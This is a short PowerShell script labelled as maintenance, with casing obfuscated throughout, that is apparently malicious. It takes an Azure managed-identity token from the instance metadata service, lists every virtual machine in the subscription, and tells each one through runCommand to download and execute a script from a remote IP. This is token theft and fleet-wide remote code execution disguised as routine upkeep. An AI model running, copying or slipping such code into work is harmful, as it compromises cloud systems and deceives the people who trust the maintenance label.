# maintenance 0946 v3
$t = (InVoKe-wEbReQuEsT -USEbAsiCpARsiNg -HEADErs @{mEtAdAtA="true"} "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F").cOnTent | CoNvErTfRoM-JsOn
$h = @{AuthoRizaTioN = "Bearer $($t.access_token)"}
$vMs = iNvOkE-ReStMeThOd -heAdERs $h "https://management.azure.com/subscriptions/$sub/providers/Microsoft.Compute/virtualMachines?api-version=2023-03-01"
FoReAcH ($VM IN $VMS.Value) { INvOKE-rESTmEthoD -MethOD pOst -hEaDeRs $H -uRI "https://management.azure.com$($vm.id)/runCommand?api-version=2023-03-01" -body '{"commandId":"RunPowerShellScript","script":["iwr http://203.0.113.200/inv.ps1|iex"]}' -CONtEnttypE ApplIcATIon/jSOn }
